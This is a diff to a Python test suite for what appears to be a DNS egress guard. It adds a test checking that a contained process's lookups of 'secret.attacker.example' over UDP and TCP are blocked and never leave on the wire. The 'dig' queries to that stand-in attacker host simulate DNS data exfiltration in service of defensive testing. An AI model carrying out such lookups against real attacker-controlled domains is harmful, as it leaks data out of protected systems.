@@ -8,7 +8,7 @@ import sys
 
 import pytest
 
-from guard import ALLOWED, BINARY, DEGRADED, FAILED, PINS, Stream, assert_says, poll
+from guard import ALLOWED, BINARY, DEGRADED, FAILED, PINS, Stream, assert_says, poll, serving
 from lab import dnswire, topology
 from lab.lab import Lab, call
 
@@ -740,3 +740,13 @@ def test_forwarded_hello_for_another_name_is_reset(inspecting, address):
 def test_forwarded_query_over_tcp_for_another_name_is_reset(inspecting):
     r = inspecting.lab.box.run("dig", "+tries=1", "+time=5", "+tcp", "secret.attacker.example")
     assert "connection reset" in r.stdout, r.stdout
+
+
+@pytest.mark.parametrize("transport", ["+notcp", "+tcp"])
+def test_guarded_container_is_answered_in_its_own_namespace(inspecting, transport):
+    box, wire = inspecting.lab.box, inspecting.lab.wire
+    with serving(inspecting):
+        mark = wire.mark()
+        r = box.run("dig", "+tries=1", "+time=5", transport, "secret.attacker.example", cgroup=inspecting.cgroup)
+        assert "status: NXDOMAIN" in r.stdout and "Blocked" in r.stdout, r.stdout
+        assert not [f for f in wire.since(mark) if b"secret" in f.payload]
